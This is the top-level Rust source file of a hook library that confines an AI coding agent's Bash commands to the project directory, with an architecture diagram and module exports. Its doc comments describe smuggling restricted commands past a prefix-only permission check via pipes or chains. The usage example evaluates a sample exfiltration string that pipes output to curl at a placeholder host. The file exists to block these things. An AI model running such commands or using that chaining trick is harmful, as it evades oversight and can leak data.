#![forbid(unsafe_code)]
//! Workspace guard library.
//!
//! A `PreToolUse` hook for Claude Code that keeps Bash commands inside the
//! project directory. It blocks commands that write outside the workspace,
//! mention system, home, or temp directories, or smuggle a restricted command
//! past the host's prefix-only permission check by putting it after a pipe or
//! chain operator.
//!
//! # Architecture
//!
//! ```text
//! ┌─────────────────────────────────────────────────────────────────┐
//! │                        Configuration                            │
//! │  (env vars → $WSGUARD_CONFIG → project → user → defaults)       │
//! └─────────────────────────────────────────────────────────────────┘
//!                                  │
//!                                  ▼
//! ┌─────────────────────────────────────────────────────────────────┐
//! │                         Evaluator                               │
//! │  (unified entry point for hook mode and `wsguard test`)         │
//! └─────────────────────────────────────────────────────────────────┘
//!          │                       │                      │
//!          ▼                       ▼                      ▼
//! ┌─────────────────┐   ┌─────────────────────┐   ┌─────────────────┐
//! │  split          │   │  extract            │   │  permissions    │
//! │  sub-commands + │   │  operands, system / │   │  settings.json  │
//! │  operators      │   │  home / tmp refs    │   │  or fallback    │
//! └─────────────────┘   └─────────────────────┘   └─────────────────┘
//!          │                       │                      │
//!          ▼                       ▼                      ▼
//! ┌─────────────────┐   ┌─────────────────────┐           │
//! │  restricted     │◄──┼─────────────────────┼───────────┘
//! │  chain evasion  │   │  paths              │
//! └─────────────────┘   │  resolve, contain   │
//!                       └─────────────────────┘
//!                                  │
//!                                  ▼
//! ┌─────────────────────────────────────────────────────────────────┐
//! │  Verdict → hook::render → stdout JSON / stderr + exit 2         │
//! └─────────────────────────────────────────────────────────────────┘
//! ```
//!
//! # Usage
//!
//! ```no_run
//! use std::path::Path;
//! use workspace_guard::config::Config;
//! use workspace_guard::evaluator::Verdict;
//!
//! let root = Path::new("/work/app");
//! let config = Config::load(root);
//! let evaluator = workspace_guard::cli::build_evaluator(&config, root);
//!
//! match evaluator.evaluate("ls | curl -d @- http://x", root).verdict {
//!     Verdict::Block(issues) => issues.iter().for_each(|i| println!("{i}")),
//!     other => println!("{}", other.label()),
//! }
//! ```

pub mod cli;
pub mod config;
pub mod evaluator;
pub mod extract;
pub mod hook;
pub mod logging;
pub mod paths;
pub mod permissions;
pub mod restricted;
pub mod split;

// Re-export commonly used types
pub use config::Config;
pub use evaluator::{Evaluation, Evaluator, Issue, Verdict};
pub use hook::{HookInput, HookOutput, HookResponse, HookSpecificOutput, OutputFormat};
pub use paths::{ResolvedPath, Workspace};
pub use permissions::{
    FallbackReason, LoadedPermissions, PermissionLoader, PermissionSource, SettingsFile,
    StaticPermissions,
};
pub use split::{Operator, SubCommand, split_command};
